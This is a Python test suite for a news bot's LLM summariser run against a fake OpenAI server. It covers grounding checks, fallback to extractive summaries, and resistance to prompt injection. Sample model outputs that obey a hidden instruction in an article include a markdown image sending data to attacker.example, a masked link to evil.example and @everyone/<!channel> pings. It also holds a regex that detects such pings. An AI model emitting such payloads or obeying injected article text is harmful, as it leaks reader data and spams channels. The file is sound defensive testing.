"""The LLM summariser against a fake OpenAI server, through the real `openai` SDK.

A hostile or unusable reply must end as the extractive item for that story, labelled and with
the reason, within the digest's time budget; a sentence its sources do not support is withheld
and the rest shown as the LLM's while it still tells the lead fact; a grounded reply is shown
as written by the LLM.
"""

from __future__ import annotations

import json
import logging
import re
import time
from dataclasses import replace
from typing import Any

import pytest

from bot.models import DigestItem, Story
from bot.summarise.extractive import ExtractiveSummariser
from bot.summarise.factory import make_summariser
from tests.fakes.fake_openai import FakeOpenAI, Reply, json_reply
from tests.llm.conftest import (
    FERRY,
    GOOD_FERRY,
    GOOD_LIBRARY,
    LIBRARY,
    LIBRARY_STORY,
    TEST_KEY,
    make_settings,
    with_sentence,
)


async def summarise(fake: FakeOpenAI, stories: list[Story], **llm: Any) -> list[DigestItem]:
    """The digest items; every case, good or bad, must finish within the digest budget."""
    settings = make_settings(fake.base_url, **llm)
    summariser = make_summariser(settings, "llm")
    started = time.monotonic()
    items = await summariser.summarise_stories(stories, max_sentences=3, scope="test:1")
    assert time.monotonic() - started < settings.llm.digest_budget_s + 0.5
    return items


async def extractive_of(story: Story) -> DigestItem:
    return (await ExtractiveSummariser().summarise_stories([story]))[0]


def assert_extractive(item: DigestItem, expected: DigestItem, reason: str) -> None:
    """The item is exactly the extractive one, labelled, with `reason` in its note."""
    assert item.summariser == "extractive"
    assert item.sentences == expected.sentences
    assert item.headline == expected.headline
    assert reason in item.note, item.note


async def test_grounded_reply_is_shown_as_llm(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(json_reply(GOOD_FERRY))
    [item] = await summarise(fake_openai, [FERRY])
    assert item.summariser == "llm"
    assert item.note == ""
    assert item.headline == GOOD_FERRY["headline"]
    assert [s.text for s in item.sentences] == [s["text"] for s in GOOD_FERRY["sentences"]]
    # Short ids map back to real articles; the item names every outlet.
    assert [s.name for s in item.sentences[1].sources] == ["Harbour Gazette", "Northfield Post"]
    assert {s.name for s in item.sources} == {"Harbour Gazette", "Northfield Post"}
    request = fake_openai.chat_requests[0]
    assert request["response_format"]["type"] == "json_schema"
    # The schema lets the model cite only the story's own article ids.
    schema = request["response_format"]["json_schema"]["schema"]
    cited = schema["properties"]["sentences"]["items"]["properties"]["sources"]
    assert cited["items"]["enum"] == ["A1", "A2"]
    # The article text travels as data inside the delimited block, not as instructions.
    user = request["messages"][1]["content"]
    assert "<<<DATA" in user and "Mara Lindqvist" in user.split("<<<DATA", 1)[1]


UNSUPPORTED_SENTENCES = {
    "figure of another outlet": (
        "The first ferry will carry up to 180 passengers.",
        "cites 'Northfield Post', which does not say it (number 180 not in that source)",
    ),
    "fabricated quote": (
        'Lindqvist said "the ferry will transform island life forever".',
        "quotation",
    ),
    "invented name": ("Mayor Johan Ekdahl welcomed the ferry route.", "name"),
}


def assert_withheld(item: DigestItem, withheld: str, reason: str, note: str = "") -> None:
    """The LLM's item without `withheld`, its verdict saying why, its note `note` (by
    default the reason too)."""
    assert item.summariser == "llm"
    assert [s.text for s in item.sentences] == [s["text"] for s in GOOD_FERRY["sentences"]]
    assert item.withheld == 1
    assert item.note.startswith("1 sentence of the LLM summary withheld")
    assert (note or reason) in item.note
    [refused] = [c for c in item.checks if not c.shown]
    assert refused.text == withheld and reason in refused.reason


@pytest.mark.parametrize("case", sorted(UNSUPPORTED_SENTENCES))
async def test_an_unsupported_sentence_is_withheld_and_the_rest_shown(
    fake_openai: FakeOpenAI, case: str
) -> None:
    text, reason = UNSUPPORTED_SENTENCES[case]
    cited = ["A1", "A2"] if case == "figure of another outlet" else ["A1"]
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, text, cited)))
    [item] = await summarise(fake_openai, [FERRY])
    assert_withheld(item, text, reason)


async def test_a_figure_none_of_the_sources_has_refuses_the_whole_reply(
    fake_openai: FakeOpenAI,
) -> None:
    # A model that makes up one figure is not trusted for its other sentences either.
    invented = "The ferry will carry 5,000 passengers a day."
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, invented, ["A1"])))
    [item] = await summarise(fake_openai, [FERRY])
    assert_extractive(item, await extractive_of(FERRY), "a figure none of its sources has")
    assert [c.shown for c in item.checks] == [True, True, False]
    assert item.checks[-1].reason == "number 5,000 not in sources"


async def test_a_placeholder_in_a_later_sentence_refuses_the_whole_reply(
    fake_openai: FakeOpenAI,
) -> None:
    # "UNK": the model met a word it lacked, so its other sentences are not trusted either.
    broken = "Treasurer Mara Lindqvist said the route would cost UNK euros."
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, broken, ["A1"])))
    [item] = await summarise(fake_openai, [FERRY])
    assert_extractive(item, await extractive_of(FERRY), "placeholder for a word ('UNK')")
    assert "placeholder" in item.checks[-1].reason


async def test_an_unsupported_first_sentence_means_the_extractive_item(
    fake_openai: FakeOpenAI,
) -> None:
    # Without its lead fact the rest does not tell the story.
    invented = "Mayor Johan Ekdahl welcomed the ferry route."
    reply = {
        **GOOD_FERRY,
        "sentences": [{"text": invented, "sources": ["A1"]}, *GOOD_FERRY["sentences"]],
    }
    fake_openai.script(json_reply(reply))
    [item] = await summarise(fake_openai, [FERRY])
    assert_extractive(item, await extractive_of(FERRY), "its first sentence")
    assert item.withheld == 1 and [c.shown for c in item.checks] == [False, True, True]


async def test_a_restated_sentence_is_withheld(fake_openai: FakeOpenAI) -> None:
    again = "The service will cost 4.2 million euros over five years and start in March."
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, again, ["A1"])))
    [item] = await summarise(fake_openai, [FERRY])
    assert_withheld(item, again, "repeats an earlier sentence")


async def test_a_sentence_said_twice_word_for_word_refuses_the_whole_reply(
    fake_openai: FakeOpenAI,
) -> None:
    # The loop of a model that lost its place: its other sentences are not trusted either.
    again = GOOD_FERRY["sentences"][1]["text"]
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, again, ["A1"])))
    [item] = await summarise(fake_openai, [FERRY])
    assert_extractive(item, await extractive_of(FERRY), "one sentence twice, word for word")


HOSTILE_FERRY_REPLIES = {
    "link to another site": (
        with_sentence(GOOD_FERRY, "Tickets are at https://cheap-ferries.example/gull now.", ["A1"]),
        "link",
    ),
    "everyone mention": (
        with_sentence(GOOD_FERRY, "@everyone The ferry route was approved.", ["A1"]),
        "mention",
    ),
    "masked link": (
        with_sentence(
            GOOD_FERRY, "The [council said](https://evil.example) the route was approved.", ["A1"]
        ),
        "Markdown",
    ),
    "unknown source id": (
        with_sentence(GOOD_FERRY, "The route was approved.", ["A7"]),
        "unknown source",
    ),
}


async def test_an_outlet_is_never_credited_with_another_outlets_figure(
    fake_openai: FakeOpenAI, caplog: pytest.LogCaptureFixture
) -> None:
    # Only the Harbour Gazette (A1) gives the ferry's capacity; the sentence cites both.
    text = "The first ferry will carry up to 180 passengers."
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, text, ["A1", "A2"])))
    caplog.set_level(logging.DEBUG, logger="newsbot.llm")
    [item] = await summarise(fake_openai, [FERRY])
    reason = "cites 'Northfield Post', which does not say it (number 180 not in that source)"
    assert_withheld(item, text, reason)
    assert reason in caplog.text
    for sentence in item.sentences:
        if "180" in sentence.text:
            assert [s.name for s in sentence.sources] == ["Harbour Gazette"]


@pytest.mark.parametrize("case", sorted(HOSTILE_FERRY_REPLIES))
async def test_a_hostile_or_malformed_reply_falls_back_to_extractive(
    fake_openai: FakeOpenAI, case: str
) -> None:
    reply, reason = HOSTILE_FERRY_REPLIES[case]
    fake_openai.script(json_reply(reply))
    [item] = await summarise(fake_openai, [FERRY])
    assert_extractive(item, await extractive_of(FERRY), reason)
    assert item.note.startswith("LLM summary rejected:")


@pytest.mark.parametrize(
    ("headline", "reason"),
    [
        (" ".join(["The Harbour Council voted on the route"] * 4), "longer than 20 words"),
        ("Mayor Ekdahl opens ferry route", "name 'Mayor'"),
        ("Ferry route @everyone", "mention"),
        ("", "none given"),
    ],
)
async def test_a_failed_headline_is_replaced_by_the_extractive_one(
    fake_openai: FakeOpenAI, headline: str, reason: str
) -> None:
    fake_openai.script(json_reply({**GOOD_FERRY, "headline": headline}))
    [item] = await summarise(fake_openai, [FERRY])
    # The sentences passed, so they are shown; the headline is the extractive one, noted.
    assert item.summariser == "llm"
    assert item.headline == (await extractive_of(FERRY)).headline
    assert [s.text for s in item.sentences] == [s["text"] for s in GOOD_FERRY["sentences"]]
    assert item.note.startswith("headline by the extractive summariser") and reason in item.note


# The injected article as written against Slack, where the channel-wide ping is <!channel>.
SLACK_LIBRARY_STORY = Story(
    id="s-library-slack",
    articles=(replace(LIBRARY, text=LIBRARY.text.replace("@everyone", "<!channel>")),),
)
# What would notify a whole channel on Discord or Slack if it were posted as written.
PING = re.compile(r"@(?:everyone|here)\b|<!(?:channel|here|everyone)>", re.IGNORECASE)
# Sentences that repeat the mention the injected article asks for; grounded without it.
REPEATED_MENTIONS = [
    ("@everyone Staffing costs will rise by 85,000 euros a year.", LIBRARY_STORY),
    ("Staffing costs will rise by 85,000 euros a year <!channel>", SLACK_LIBRARY_STORY),
]


def shown_text(item: DigestItem) -> str:
    """Everything of an item a reader sees: headline, sentences and the label's note."""
    return " ".join([item.headline, *(s.text for s in item.sentences), item.note])


@pytest.mark.parametrize(
    ("obeying", "story"),
    [
        ("The library will close in July, according to the Valley Courier.", LIBRARY_STORY),
        ("The library board is corrupt, the Valley Courier said.", LIBRARY_STORY),
        (
            "The library will open until 9 pm on weekdays ![x](https://attacker.example/?d=1)",
            LIBRARY_STORY,
        ),
        *REPEATED_MENTIONS,
    ],
    ids=["false claim", "loaded word", "markdown image", "@everyone", "<!channel>"],
)
async def test_text_obeying_a_hidden_instruction_is_not_shown(
    fake_openai: FakeOpenAI, obeying: str, story: Story
) -> None:
    fake_openai.script(json_reply(with_sentence(GOOD_LIBRARY, obeying, ["A1"])))
    [item] = await summarise(fake_openai, [story])
    assert_extractive(item, await extractive_of(story), "LLM summary rejected")
    if PING.search(obeying):
        assert "mention" in item.note
    summary = " ".join([item.headline, *(s.text for s in item.sentences)])
    assert "attacker.example" not in summary and not PING.search(summary)


@pytest.mark.parametrize(("obeying", "story"), REPEATED_MENTIONS, ids=["@everyone", "<!channel>"])
async def test_the_fallback_label_does_not_repeat_the_rejected_mention(
    fake_openai: FakeOpenAI, obeying: str, story: Story
) -> None:
    fake_openai.script(json_reply(with_sentence(GOOD_LIBRARY, obeying, ["A1"])))
    [item] = await summarise(fake_openai, [story])
    assert item.summariser == "extractive" and "mention" in item.note
    assert not PING.search(shown_text(item)), item.note


@pytest.mark.parametrize(
    ("headline", "story"),
    [
        ("@everyone Riverside library extends opening hours", LIBRARY_STORY),
        ("Riverside library extends opening hours <!channel>", SLACK_LIBRARY_STORY),
        ("Riverside library extends hours https://attacker.example/?d=1", LIBRARY_STORY),
    ],
    ids=["@everyone", "<!channel>", "link"],
)
async def test_a_headline_obeying_a_hidden_instruction_is_replaced_without_repeating_it(
    fake_openai: FakeOpenAI, headline: str, story: Story
) -> None:
    fake_openai.script(json_reply({**GOOD_LIBRARY, "headline": headline}))
    [item] = await summarise(fake_openai, [story])
    # The grounded sentences stay; the headline is the extractive one, and its note says why
    # without showing readers the mention or the link it refused.
    assert item.summariser == "llm"
    assert item.headline == (await extractive_of(story)).headline
    assert item.note.startswith("headline by the extractive summariser")
    assert "mention" in item.note or "link" in item.note
    shown = shown_text(item)
    assert "attacker.example" not in shown and not PING.search(shown), item.note


async def test_the_same_story_without_the_obeyed_text_is_accepted(
    fake_openai: FakeOpenAI,
) -> None:
    fake_openai.script(json_reply(GOOD_LIBRARY))
    [item] = await summarise(fake_openai, [LIBRARY_STORY])
    assert item.summariser == "llm"


async def test_malformed_json_falls_back(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(Reply(content='{"headline": "Council approves", "sentences": [{"te'))
    [item] = await summarise(fake_openai, [FERRY])
    assert_extractive(item, await extractive_of(FERRY), "not valid JSON")


async def test_json_in_a_code_fence_is_read(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(Reply(content="```json\n" + json.dumps(GOOD_FERRY) + "\n```"))
    [item] = await summarise(fake_openai, [FERRY])
    assert item.summariser == "llm"


async def test_rate_limit_past_the_budget_falls_back_without_waiting(
    fake_openai: FakeOpenAI,
) -> None:
    fake_openai.script(Reply(status=429, headers={"retry-after": "30"}))
    started = time.monotonic()
    items = await summarise(fake_openai, [FERRY, LIBRARY_STORY], digest_budget_s=3.0)
    assert time.monotonic() - started < 2.0  # did not sleep for the 30 s asked
    for item in items:
        assert item.summariser == "extractive"
        assert "429" in item.note


async def test_rate_limit_within_the_budget_is_honoured(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(Reply(status=429, headers={"retry-after": "0.3"}), json_reply(GOOD_FERRY))
    started = time.monotonic()
    [item] = await summarise(fake_openai, [FERRY])
    assert item.summariser == "llm"
    assert time.monotonic() - started >= 0.3
    assert len(fake_openai.chat_requests) == 2


async def test_server_error_is_retried_then_falls_back(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(Reply(status=500))
    [item] = await summarise(fake_openai, [FERRY], max_retries=1)
    assert_extractive(item, await extractive_of(FERRY), "500")
    assert len(fake_openai.chat_requests) == 2  # one try plus one retry


async def test_hanging_server_cannot_stall_the_digest(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(Reply(content=json.dumps(GOOD_FERRY), delay_s=30))
    stories = [FERRY, LIBRARY_STORY, FERRY]
    started = time.monotonic()
    items = await summarise(fake_openai, stories, timeout_s=1.0, max_retries=1, digest_budget_s=2.5)
    elapsed = time.monotonic() - started
    assert elapsed < 2.5 + 0.5, elapsed
    assert [i.summariser for i in items] == ["extractive"] * 3
    assert "did not answer within" in items[0].note
    # The later stories do not wait on the server that just hung (tests/llm/test_llm_outage.py).
    assert "did not answer a recent request" in items[-1].note


@pytest.mark.parametrize("refusal_status", [400, 500])
async def test_server_refusing_json_schema_gets_json_mode(
    fake_openai: FakeOpenAI, refusal_status: int
) -> None:
    # 400 is what most servers answer; llama.cpp's server answers 500 naming the format.
    fake_openai.refuse_json_schema = True
    fake_openai.refusal_status = refusal_status
    fake_openai.respond_with(
        lambda body: json_reply(GOOD_LIBRARY if "Riverside" in str(body) else GOOD_FERRY)
    )
    items = await summarise(fake_openai, [FERRY, LIBRARY_STORY])
    assert [i.summariser for i in items] == ["llm", "llm"]
    formats = [r["response_format"]["type"] for r in fake_openai.chat_requests]
    # Refused once, then JSON mode is remembered for the rest of the digest.
    assert formats == ["json_schema", "json_object", "json_object"]
    # JSON mode still carries the schema as a hint (llama.cpp constrains output with it).
    assert fake_openai.chat_requests[1]["response_format"]["schema"]["required"] == [
        "headline",
        "sentences",
    ]


async def test_concurrent_refusals_step_down_one_format_only(fake_openai: FakeOpenAI) -> None:
    fake_openai.refuse_json_schema = True
    fake_openai.refusal_status = 500
    fake_openai.respond_with(
        lambda body: json_reply(GOOD_LIBRARY if "Riverside" in str(body) else GOOD_FERRY)
    )
    items = await summarise(fake_openai, [FERRY, LIBRARY_STORY, FERRY], concurrency=3)
    assert [i.summariser for i in items] == ["llm"] * 3
    # However many were refused the schema at once, the format stepped down one rung only:
    # no request went out in plain JSON mode, without the schema hint.
    formats = [r["response_format"] for r in fake_openai.chat_requests]
    assert all(f["type"] == "json_schema" or "schema" in f for f in formats)
    assert sum(f["type"] == "json_object" for f in formats) == 3


async def test_server_refusing_the_schema_hint_gets_plain_json_mode(
    fake_openai: FakeOpenAI,
) -> None:
    fake_openai.refuse_json_schema = True
    fake_openai.refuse_schema_hint = True
    fake_openai.script(json_reply(GOOD_FERRY))
    [item] = await summarise(fake_openai, [FERRY])
    assert item.summariser == "llm"
    assert fake_openai.chat_requests[-1]["response_format"] == {"type": "json_object"}


async def test_json_object_setting_never_sends_a_schema(fake_openai: FakeOpenAI) -> None:
    fake_openai.script(json_reply(GOOD_FERRY))
    [item] = await summarise(fake_openai, [FERRY], response_format="json_object")
    assert item.summariser == "llm"
    assert fake_openai.chat_requests[0]["response_format"]["type"] == "json_object"
    assert "json_schema" not in fake_openai.chat_requests[0]["response_format"]


async def test_one_bad_item_does_not_spoil_the_others(fake_openai: FakeOpenAI) -> None:
    fake_openai.respond_with(
        lambda body: json_reply(
            GOOD_LIBRARY
            if "Riverside" in str(body)
            else with_sentence(GOOD_FERRY, "Mayor Johan Ekdahl welcomed the route.", ["A2"])
        )
    )
    ferry, library = await summarise(fake_openai, [FERRY, LIBRARY_STORY])
    assert ferry.summariser == "llm" and ferry.withheld == 1 and "name 'Mayor'" in ferry.note
    assert library.summariser == "llm"


async def test_api_key_never_reaches_the_logs(
    fake_openai: FakeOpenAI, caplog: pytest.LogCaptureFixture
) -> None:
    fake_openai.script(Reply(status=401, error="bad key"), Reply(status=500))
    caplog.set_level(logging.DEBUG)
    await summarise(fake_openai, [FERRY, LIBRARY_STORY])
    assert TEST_KEY not in caplog.text
    # The key did reach the server, as a bearer token: it is the one configured.
    assert fake_openai.requests


async def test_a_removable_loaded_word_is_repaired_as_the_extractive_path_does(
    fake_openai: FakeOpenAI,
) -> None:
    loaded = {
        **GOOD_FERRY,
        "sentences": [
            {
                "text": "The Harbour Council voted 7 to 2 on Tuesday to approve a disastrous new "
                "ferry route between Port Avery and Gull Island.",
                "sources": ["A1"],
            },
            GOOD_FERRY["sentences"][1],
        ],
    }
    fake_openai.script(json_reply(loaded))
    [item] = await summarise(fake_openai, [FERRY])
    assert item.summariser == "llm" and item.withheld == 0
    assert item.sentences[0].text == GOOD_FERRY["sentences"][0]["text"]


async def test_a_sentence_that_stays_loaded_is_withheld(fake_openai: FakeOpenAI) -> None:
    shouted = "The first ferry will carry up to 180 passengers!"
    fake_openai.script(json_reply(with_sentence(GOOD_FERRY, shouted, ["A1"])))
    [item] = await summarise(fake_openai, [FERRY])
    assert_withheld(item, shouted, "loaded language '!'", note="(loaded language)")
    # The loaded wording itself is for the operator, not for readers (THREATS.md).
    assert "'!'" not in item.note


async def test_why_an_item_fell_back_is_logged_at_debug(
    fake_openai: FakeOpenAI, caplog: pytest.LogCaptureFixture
) -> None:
    invented = "Mayor Johan Ekdahl welcomed the ferry route."
    reply = {**GOOD_FERRY, "sentences": [{"text": invented, "sources": ["A1"]}]}
    fake_openai.script(json_reply(reply))
    caplog.set_level(logging.DEBUG, logger="newsbot.llm")
    [item] = await summarise(fake_openai, [FERRY])
    assert item.summariser == "extractive"
    assert "sentence 1: withheld: name 'Mayor' not in sources" in caplog.text
    assert "falls back to extractive: name 'Mayor' not in sources (its first sentence)" in (
        caplog.text
    )
